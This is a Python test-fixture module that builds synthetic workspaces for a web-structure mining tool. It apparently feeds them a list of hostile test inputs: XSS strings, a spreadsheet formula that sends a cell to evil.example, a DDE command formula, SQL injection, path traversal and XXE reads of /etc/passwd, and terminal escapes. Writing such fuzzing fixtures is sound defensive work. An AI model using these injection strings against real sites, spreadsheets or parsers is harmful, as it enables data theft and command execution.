"""Workspaces made of records written down in a test, for what reads workspaces and never mines."""

from collections.abc import Iterable, Mapping, Sequence
from dataclasses import asdict, is_dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pyarrow as pa

from sitestrata.model import (
    Alias,
    Attribute,
    Boundary,
    Capture,
    Concept,
    ConceptLabel,
    DataTable,
    Instance,
    IsA,
    Link,
    LinkSegment,
    Menu,
    MenuItem,
    MenuPage,
    Objective,
    Page,
    PagePlace,
    Reject,
    Site,
    SiteProfile,
    TableValue,
)
from sitestrata.run.manifest import StageRecord
from sitestrata.run.storage import CHOSEN, schema_of, write_file
from sitestrata.run.workspace import Workspace, open_workspace, write_workspace
from sitestrata.urls import host, normalise, url_id

__all__ = ["PAYLOADS", "build_workspace", "pages_of", "web_of_texts"]

# Our own: what has broken pages, spreadsheets, XML, terminals and queries before.
PAYLOADS = (
    "<script>document.title='PWNED'</script>",
    '"><script>document.title="PWNED"</script>',
    "'><img src=x onerror=\"document.title='PWNED'\">",
    "</title><svg onload=document.title='PWNED'>",
    "</style><script>document.title='PWNED'</script>",
    "--><script>document.title='PWNED'</script>",
    "]]><script>document.title='PWNED'</script>",
    "javascript:document.title='PWNED'",
    "<iframe srcdoc=\"<script>parent.document.title='PWNED'</script>\">",
    "<a href=\"javascript:document.title='PWNED'\" id=x>click</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:document.title='PWNED'\">",
    "<math><mtext><style><!--</style><img title='--&gt;&lt;img src=1 onerror=document.title=`PWNED`&gt;'>",
    "&lt;script&gt;document.title='PWNED'&lt;/script&gt;",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "\u202eevil\u202c",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "nul\x00here",
    "\x0b\x0c\x08\x7f",
    "\ufffe\uffff",
    "line\nbreak\r\nand\ttab",
    "a\u2028b\u2029c",
    "ẛ̣ Z̮̞̠͙͔ͅ​",
    "'; DROP TABLE pages; --",
    "%s%n{0}${7*7}{{7*7}}",
    "../../../../etc/passwd",
    "C:\\Windows\\..\\x\x00.html",
    '{"@context": "x"}',
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    '<> <b> . <s> a """ .',
    '> . <http://evil.example/> <http://evil.example/> "x',
    "🏳️‍🌈 नमस्ते مرحبا",
    "",
    " ",
    "x" * 5000,
)


def build_workspace(folder: Path, tables: Mapping[str, Iterable[Any]]) -> Workspace:
    """Write tables of records (or of rows, for tables of our own) as a finished workspace."""
    with write_workspace(folder) as workspace:
        staging = workspace.staging("made")
        files, rows = {}, {}
        for name, records in tables.items():
            path = staging / name / "all.parquet"
            plain = [asdict(record) if is_dataclass(record) else record for record in records]
            content = pa.Table.from_pylist(plain, schema=schema_of(name))
            rows[name] = write_file(path, name, [content])
            files[name] = [path]
        record = StageRecord("", "", "", {}, {}, rows, 0.0)
        workspace.commit("made", record, files, keep={}, staging=staging)
        workspace.update(is_finished=True)
    return open_workspace(folder)


def pages_of(
    sites: Mapping[str, Sequence[str]], *, status: int = 200, titles: Mapping[str, str] | None = None
) -> dict[str, list[Any]]:
    """Return the tables of pages, captures, aliases and sites; each site goes by its entry and links all its pages."""
    made: dict[str, list[Any]] = {
        name: []
        for name in ("captures", CHOSEN, "pages", "links", "segments", "urls", "aliases", "boundaries", "sites")
    }
    offset = 0
    for entry, urls in sites.items():
        hosts = sorted({host(url) for url in urls})
        made["sites"].append(
            Site(url_id(entry), entry, (titles or {}).get(entry, entry), tuple(hosts), len(urls), 1, None, "links", 0.9)
        )
        for url in urls:
            title = (titles or {}).get(url, f"Title of {url}")
            offset += 100
            made["captures"].append(_capture(url, offset, status))
            made[CHOSEN].append({"url_id": url_id(url), "source": "crawl.warc.gz", "offset": offset, "version": 0})
            made["pages"].append(_page(url, title, len(urls)))
            made["aliases"].append(Alias(url_id(url), url, url_id(url), url, (), True))
            made["boundaries"].append(
                Boundary(url_id(url), url_id(entry), url_id(entry), "links", 0.9, 1.0, 0.0, None, None, None)
            )
            made["urls"].append({"url_id": url_id(url), "url": url})
            for ordinal, target in enumerate(urls):
                made["links"].append(_link(url, ordinal, target, (titles or {}).get(target, target)))
            made["segments"].append(LinkSegment(url_id(url), 0, -1, "html/body/ul", tuple(range(len(urls))), 3))
    return made


def web_of_texts(folder: Path, texts: Sequence[str]) -> Workspace:
    """Build a workspace of all tables in which every text that pages may decide is one of some texts."""
    addresses = [_address(number, text) for number, text in enumerate(texts)]
    entry, other = addresses[0], "http://second.example/"
    titles = dict(zip(addresses, texts, strict=True))
    tables: dict[str, Any] = pages_of({entry: addresses, other: [other]}, titles=titles)
    tables["links"].append(_link(other, 1, entry, texts[0]))
    site = url_id(entry)
    tables["tree"] = [
        PagePlace(
            url_id(url),
            site,
            None if url == entry else site,
            number,
            int(url != entry),
            text,
            ("menu",),
            1.0,
            None,
            0.0,
            None,
            None,
        )
        for number, (url, text) in enumerate(titles.items())
    ] + [PagePlace(url_id(other), url_id(other), None, 0, 0, texts[-1], (), 0.0, None, 0.0, None, None)]
    tables["profiles"] = [
        SiteProfile(site, texts[0], "titles", tuple(texts), "hierarchy", 1, 0),
        SiteProfile(url_id(other), texts[1 % len(texts)], "titles", tuple(texts[:3]), "single", 0, 0),
    ]
    tables["menus"] = [
        Menu(
            7,
            "main",
            0.9,
            "clique",
            f"html/body/{texts[1 % len(texts)]}",
            None,
            len(addresses),
            len(texts),
            (),
            1.0,
            0.0,
            0.0,
            texts[0],
            texts[2 % len(texts)],
        )
    ]
    tables["menu_items"] = [
        MenuItem(7, number, -1, 0, text, url_id(url), url, len(addresses), True)
        for number, (url, text) in enumerate(titles.items())
    ]
    tables["menu_pages"] = [
        MenuPage(url_id(url), 7, url_id(url), (0,), tuple(range(len(texts))), number)
        for number, url in enumerate(addresses)
    ]
    tables["data_tables"] = [
        DataTable(
            site,
            0,
            "table",
            5,
            -1,
            True,
            1.0,
            "column",
            texts[0],
            len(texts),
            2,
            tuple((text, text) for text in texts),
            ((0, 0), (0, 1)),
            tuple("data" for _ in texts),
        )
    ]
    tables["table_values"] = [
        TableValue(site, 0, number, 1, (text,), (text, texts[0]), text, "text", None, text[:5], None)
        for number, text in enumerate(texts)
    ]
    tables["concepts"] = [
        Concept(number, 1, text, "en", 2, (site,), (addresses[number],), True, 0.5) for number, text in enumerate(texts)
    ]
    tables["labels"] = [ConceptLabel(number, text, "en", 2, "first", None, 1.0) for number, text in enumerate(texts)]
    tables["is_a"] = [
        IsA(0, number, 1, 2, 0.5, 0, False, ("tree",), (addresses[number],)) for number in range(1, len(texts))
    ]
    tables["instances"] = [
        Instance(site, number, 1, 0, text, addresses[number], "listing", None, 3, number, 0.5)
        for number, text in enumerate(texts)
    ]
    tables["attributes"] = [
        Attribute(site, number, 0, text, text, "text", None, None, None, f"html/{text}", 4)
        for number, text in enumerate(texts)
    ]
    tables["objectives"] = [Objective("sites", 2, 1.0)]
    tables["rejects"] = [Reject(text, "pages", text[:20], text) for text in texts]
    return build_workspace(folder, tables)


def _address(number: int, text: str) -> str:
    return normalise(f"http://first.example/{number}/{text}?q={text}") or f"http://first.example/{number}/"


def _capture(url: str, offset: int, status: int) -> Capture:
    return Capture(
        url_id=url_id(url),
        url=url,
        source="crawl.warc.gz",
        offset=offset,
        length=100,
        record_type="response",
        fetched_at=datetime(2026, 1, 1, tzinfo=UTC),
        status=status,
        media_type="text/html",
        charset="utf-8",
        location=None,
        robots=None,
        size=1000,
        digest="00" * 16,
        is_html=True,
    )


def _page(url: str, title: str, links: int) -> Page:
    return Page(
        url_id=url_id(url),
        url=url,
        title=title,
        language="en",
        charset="utf-8",
        canonical_link=None,
        base=url,
        robots=None,
        refresh=None,
        heading=title,
        breadcrumb=(),
        node_count=10,
        link_count=links,
        leaf_count=10,
        table_count=0,
        text_length=100,
        linked_text_length=50,
        links_digest=0,
        template=(),
        resources=(),
    )


def _link(page: str, ordinal: int, target: str, label: str) -> Link:
    return Link(
        page=url_id(page),
        ordinal=ordinal,
        target=url_id(target),
        fragment=None,
        kind="a",
        label=label,
        label_source="text",
        rel=None,
        landmark=None,
        path=f"html/body/ul.{label}/li/a",
        segment=0,
        node=4 + ordinal,
        gap=0,
    )
